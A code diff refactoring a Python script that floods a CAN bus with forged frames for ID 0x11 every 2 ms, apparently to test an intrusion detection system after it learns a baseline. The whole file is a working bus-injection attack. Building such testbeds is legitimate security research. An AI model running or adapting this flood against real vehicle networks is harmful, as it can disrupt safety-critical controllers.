@@ -1,27 +1,36 @@
-
 import time
 import can
 from bus_config import get_bus
 
+TARGET_ID = 0x11
+WARMUP = 5.0            # Seconds the IDS gets to learn the baseline
+FLOOD_INTERVAL = 0.002  # 2ms
+
+def attack_frames(start, interval=FLOOD_INTERVAL):
+    """Yields (send time, message) of the flood from start on; the message object is reused"""
+    # Flooding: Send 0x11 very fast (every 2ms)
+    msg = can.Message(arbitration_id=TARGET_ID, data=b'\xFF\xFF', is_extended_id=False)
+    next_time = start
+    while True:
+        yield next_time, msg
+        next_time += interval
+
 def run_attack():
     bus = get_bus()
     print("Attacker Active.")
     print("Waiting 5 seconds to let IDS learn the baseline...")
-    time.sleep(5)
+    time.sleep(WARMUP)
     
     print("\nLAUNCHING FABRICATION ATTACK!")
     print("Injecting ID 0x11 at high frequency ")
     
     try:
-        while True:
-            # Flooding: Send 0x11 very fast (every 2ms)
-            msg = can.Message(arbitration_id=0x11, data=b'\xFF\xFF', is_extended_id=False)
+        for _, msg in attack_frames(time.time()):
             bus.send(msg)
-            
-            time.sleep(0.002)
+            time.sleep(FLOOD_INTERVAL)
 
     except KeyboardInterrupt:
         print("Attack stopped")
 
 if __name__ == "__main__":
-    run_attack()
\ No newline at end of file
+    run_attack()